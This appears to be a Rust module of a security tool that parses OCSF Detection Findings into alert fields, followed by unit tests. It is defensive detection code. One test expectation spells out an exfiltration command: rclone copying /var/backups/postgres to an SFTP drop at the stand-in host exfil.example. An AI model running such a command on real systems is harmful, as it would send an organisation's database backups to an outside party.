//! OCSF Detection Finding (class_uid 2004).
//!
//! Owns: the mapping from a Detection Finding (`finding_info`, `attacks[]`, `device`,
//! `actor.user`, endpoints, `evidences[]`, `resources[]`) to [`AlertFields`]. Junk entity
//! values are skipped.

use std::collections::BTreeMap;

use chrono::{DateTime, Utc};
use serde_json::Value;

use super::IngestError;
use super::value::{
    Epoch, Required, add_entities, first_text, get, get_text, get_texts, invalid, list, number,
    percent, tactic_name, techniques, text, time_at,
};
use crate::alert::{AlertFields, Entity, EntityKind, Rule, Severity};

pub(super) fn parse(body: &Value, received_at: DateTime<Utc>) -> Result<AlertFields, IngestError> {
    super::value::one_spelling(body, "")?;
    let mut req = Required::new(body, "");
    req.text("class_uid");
    let uid = req.text("finding_info.uid");
    let title = req.text("finding_info.title");
    req.finish()?;
    if get(body, "class_uid").and_then(number) != Some(2004.0) {
        return Err(invalid("class_uid", "expected 2004 (Detection Finding)"));
    }

    let severity = match get(body, "severity_id") {
        Some(v) => number(v)
            .filter(|n| n.fract() == 0.0)
            .and_then(|n| Severity::from_id(n as i64))
            .ok_or_else(|| invalid("severity_id", "expected an ocsf severity id from 0 to 6"))?,
        None => get_text(body, "severity")
            .and_then(|s| Severity::parse(&s))
            .unwrap_or(Severity::Medium),
    };
    let confidence = get(body, "confidence_score")
        .and_then(percent)
        .or_else(|| match get(body, "confidence_id").and_then(number) {
            Some(1.0) => Some(30),
            Some(2.0) => Some(60),
            Some(3.0) => Some(90),
            _ => None,
        })
        .unwrap_or(50);

    let info = get(body, "finding_info").unwrap_or(body);
    let analytic = get(info, "analytic");
    let analytic_text = |key: &str| analytic.and_then(|a| get_text(a, key));

    let mut ids = Vec::new();
    let mut tactics = Vec::new();
    for attack in list(info, "attacks") {
        ids.extend(get_texts(attack, &["technique.uid", "sub_technique.uid"]));
        tactics.extend(get_texts(attack, &["tactic.name"]));
        for tactic in list(attack, "tactics") {
            tactics.extend(get_texts(tactic, &["name"]));
        }
    }

    let mut tags: Vec<String> = list(info, "tags").iter().filter_map(tag).collect();
    if tags.is_empty() {
        tags = get_texts(body, &["metadata.labels"]);
    }

    let mut ev = Evidence::default();
    ev.endpoint(get(body, "device"), false);
    ev.user(get(body, "actor.user"));
    ev.endpoint(get(body, "src_endpoint"), true);
    ev.endpoint(get(body, "dst_endpoint"), true);
    for e in list(body, "evidences") {
        ev.endpoint(get(e, "device"), false);
        ev.user(get(e, "actor.user"));
        ev.process(get(e, "process"));
        ev.hashes(get(e, "file"));
        add_entities(
            &mut ev.entities,
            EntityKind::Url,
            get_text(e, "url.url_string"),
        );
        add_entities(
            &mut ev.entities,
            EntityKind::Domain,
            get_text(e, "query.hostname"),
        );
        ev.endpoint(get(e, "src_endpoint"), true);
        ev.endpoint(get(e, "dst_endpoint"), true);
    }
    for r in list(body, "resources") {
        let kind = get_text(r, "type").unwrap_or_default();
        let Some(id) = first_text(r, &["uid", "name"]) else {
            continue;
        };
        let cloud = ["Instance", "Bucket", "arn"]
            .iter()
            .any(|k| kind.contains(k))
            || id.starts_with("arn:")
            || id.starts_with("/subscriptions/");
        if cloud {
            add_entities(&mut ev.entities, EntityKind::CloudResource, [id]);
        }
    }

    Ok(AlertFields {
        source_alert_id: uid,
        time: time_at(
            body,
            "",
            &["time", "finding_info.created_time"],
            Epoch::Millis,
            received_at,
        )?,
        title: title.clone(),
        description: get_text(info, "desc").or_else(|| get_text(body, "message")),
        rule: Rule {
            id: analytic_text("uid")
                .or_else(|| analytic_text("name"))
                .unwrap_or_else(|| title.clone()),
            name: analytic_text("name").unwrap_or(title),
            version: analytic_text("version"),
        },
        severity,
        confidence,
        techniques: techniques(ids),
        tactics: tactics.iter().map(|t| tactic_name(t)).collect(),
        intel_source: get_text(body, "unmapped.intel_source"),
        tags,
        entities: ev.entities,
        attributes: ev.attributes,
        source_url: get_text(info, "src_url"),
    })
}

/// A `finding_info.tags` item: a string, or an OCSF key/value pair rendered `name:value`.
fn tag(v: &Value) -> Option<String> {
    text(v).or_else(|| match (get_text(v, "name"), get_text(v, "value")) {
        (Some(n), Some(val)) => Some(format!("{n}:{val}")),
        (n, val) => n.or(val),
    })
}

/// Entities and process attributes gathered from the finding's objects, in priority order.
#[derive(Default)]
struct Evidence {
    entities: Vec<Entity>,
    attributes: BTreeMap<String, String>,
}

impl Evidence {
    /// A device (`hostname`, `ip`) or network endpoint (also `domain`).
    fn endpoint(&mut self, v: Option<&Value>, with_domain: bool) {
        let Some(v) = v else { return };
        add_entities(
            &mut self.entities,
            EntityKind::Host,
            get_text(v, "hostname"),
        );
        add_entities(&mut self.entities, EntityKind::Ip, get_texts(v, &["ip"]));
        if with_domain {
            add_entities(
                &mut self.entities,
                EntityKind::Domain,
                get_text(v, "domain"),
            );
        }
    }

    fn user(&mut self, v: Option<&Value>) {
        if let Some(v) = v {
            let names = get_texts(v, &["name", "email_addr"]);
            add_entities(&mut self.entities, EntityKind::User, names);
        }
    }

    /// Process attributes (first evidence wins) and the process file's hashes.
    fn process(&mut self, v: Option<&Value>) {
        let Some(p) = v else { return };
        let fields = [
            ("process.command_line", "cmd_line"),
            ("process.name", "name"),
            ("process.parent.name", "parent_process.name"),
        ];
        for (key, path) in fields {
            if let Some(val) = get_text(p, path) {
                self.attributes.entry(key.to_string()).or_insert(val);
            }
        }
        self.hashes(get(p, "file"));
    }

    /// `file.hashes[].value` as file hashes.
    fn hashes(&mut self, file: Option<&Value>) {
        let Some(file) = file else { return };
        for h in list(file, "hashes") {
            add_entities(
                &mut self.entities,
                EntityKind::FileHash,
                get_text(h, "value"),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::super::value::testing::{Want, check, missing, now, parse, survives};
    use crate::alert::Severity;
    use crate::ingest::{IngestError, IngestFormat};

    const FIXTURE: &str = include_str!("../../tests/fixtures/ocsf.json");

    fn minimal(extra: serde_json::Value) -> String {
        let mut v = json!({"class_uid": 2004, "finding_info": {"uid": "f-1", "title": "T"}});
        if let (Some(base), Some(extra)) = (v.as_object_mut(), extra.as_object()) {
            base.extend(extra.clone());
        }
        v.to_string()
    }

    #[test]
    fn parses_the_fixture() {
        let got = parse(IngestFormat::Ocsf, FIXTURE).unwrap();
        check(
            &got,
            &Want {
                source_alert_id: "ndr-finding-20240611-000731",
                time: "2024-06-11T03:42:05+00:00",
                title: "Large outbound transfer from database host to rare external domain",
                rule: (
                    "ndr-exfil-volume-rare-domain",
                    "Outbound Volume Anomaly to Rare Domain",
                    Some("2.1"),
                ),
                severity: Severity::High,
                confidence: 85,
                techniques: &["T1048"],
                tactics: &["exfiltration"],
                tags: &["exfiltration", "ndr"],
                intel_source: Some("misp-event-4821"),
                entities: &[
                    "host:db-07",
                    "user:dave",
                    "ip:10.40.1.7",
                    "ip:192.0.2.10",
                    "domain:exfil.example",
                    "file_hash:42783686f2e08268cf789339d7b3e581472e374f5a4a7f44626589a60997fb86",
                    "cloud_resource:i-0a1b2c3d4e5f60718",
                ],
                attributes: &[
                    (
                        "process.command_line",
                        "rclone copy /var/backups/postgres remote:drop --sftp-host exfil.example --sftp-user u8812 --transfers 8",
                    ),
                    ("process.name", "rclone"),
                    ("process.parent.name", "bash"),
                ],
                source_url: Some("https://ndr.corp.example/findings/ndr-finding-20240611-000731"),
            },
        );
        assert!(
            got.description
                .as_deref()
                .unwrap()
                .starts_with("rclone on db-07")
        );
    }

    #[test]
    fn maps_alternatives_and_defaults() {
        let got = parse(IngestFormat::Ocsf, &minimal(json!({}))).unwrap();
        assert_eq!(
            (got.severity, got.confidence, got.time),
            (Severity::Medium, 50, now())
        );
        assert_eq!((got.rule.id.as_str(), got.rule.name.as_str()), ("T", "T"));

        let got = parse(
            IngestFormat::Ocsf,
            &json!({
                "class_uid": "2004",
                "severity_id": 0,
                "confidence_id": 2,
                "message": "from message",
                "finding_info": {
                    "uid": "f-2",
                    "title": "T",
                    "created_time": 1718077312318_i64,
                    "analytic": {"name": "Rule Name"},
                    "tags": [{"name": "env", "value": "prod"}, "plain"],
                    "attacks": [{
                        "sub_technique": {"uid": "T1566.002"},
                        "tactics": [{"name": "Initial Access"}, {"uid": "TA0001"}]
                    }]
                },
                "metadata": {"labels": ["ignored"]},
                "actor": {"user": {"name": "CORP\\Dave", "email_addr": "Dave@Example.com"}},
                "evidences": [
                    {"url": {"url_string": "https://Phish.Example/login"}, "file": {"hashes": [{"value": "nope"}, {"value": "2F2D399F0EA8844859FE5514B304733B"}]}},
                    {"query": {"hostname": "phish.example"}, "device": {"hostname": "ws-9"}}
                ],
                "resources": [
                    {"uid": "arn:aws:s3:::exports", "type": "Object"},
                    {"name": "payroll-bucket", "type": "AWS::S3::Bucket"},
                    {"uid": "db-07", "type": "Host"}
                ]
            })
            .to_string(),
        )
        .unwrap();
        assert_eq!(got.severity, Severity::Informational);
        assert_eq!(got.confidence, 60);
        assert_eq!(got.description.as_deref(), Some("from message"));
        assert_eq!(got.time.to_rfc3339(), "2024-06-11T03:41:52.318+00:00");
        assert_eq!(
            (got.rule.id.as_str(), got.rule.name.as_str()),
            ("Rule Name", "Rule Name")
        );
        assert_eq!(got.tags, ["env:prod", "plain"]);
        assert_eq!(got.techniques, ["T1566.002"]);
        assert_eq!(got.tactics, ["initial-access"]);
        let keys: Vec<String> = got.entities.iter().map(|e| e.key()).collect();
        assert_eq!(
            keys,
            [
                "host:ws-9",
                "user:dave",
                "user:dave@example.com",
                "domain:phish.example",
                "url:https://phish.example/login",
                "file_hash:2f2d399f0ea8844859fe5514b304733b",
                "cloud_resource:arn:aws:s3:::exports",
                "cloud_resource:payroll-bucket",
            ]
        );
    }

    #[test]
    fn wrong_class_missing_and_invalid_fields() {
        let bad = include_str!("../../tests/fixtures/bad/ocsf_wrong_class.json");
        assert_eq!(
            parse(IngestFormat::Ocsf, bad),
            Err(IngestError::InvalidField {
                field: "class_uid".into(),
                reason: "expected 2004 (Detection Finding)".into()
            })
        );
        assert_eq!(
            missing(parse(IngestFormat::Ocsf, "{}")),
            ["class_uid", "finding_info.uid", "finding_info.title"]
        );
        assert_eq!(
            missing(parse(
                IngestFormat::Ocsf,
                r#"{"class_uid": 2004, "finding_info": {"title": ""}}"#
            )),
            ["finding_info.uid", "finding_info.title"]
        );
        let field = |extra| match parse(IngestFormat::Ocsf, &minimal(extra)) {
            Err(IngestError::InvalidField { field, .. }) => field,
            other => panic!("expected InvalidField, got {other:?}"),
        };
        assert_eq!(field(json!({"severity_id": 99})), "severity_id");
        assert_eq!(field(json!({"severity_id": "high"})), "severity_id");
        assert_eq!(field(json!({"time": "noon"})), "time");
    }

    #[test]
    fn odd_shapes_do_not_panic() {
        survives(
            IngestFormat::Ocsf,
            FIXTURE,
            &[
                r#"{"class_uid": [], "finding_info": []}"#,
                r#"{"class_uid": 2004, "finding_info": {"uid": {}, "title": []}}"#,
                r#"{"class_uid": 2004, "finding_info": {"uid": "u", "title": "t", "attacks": {"technique": 5}}, "evidences": {"process": []}}"#,
                r#"{"class_uid": 2004.5, "finding_info": {"uid": "u", "title": "t"}, "severity_id": 1e300}"#,
                r#"{"class_uid": 2004, "finding_info": {"uid": "u", "title": "t"}, "severity_id": -9223372036854775809}"#,
            ],
        );
    }
}
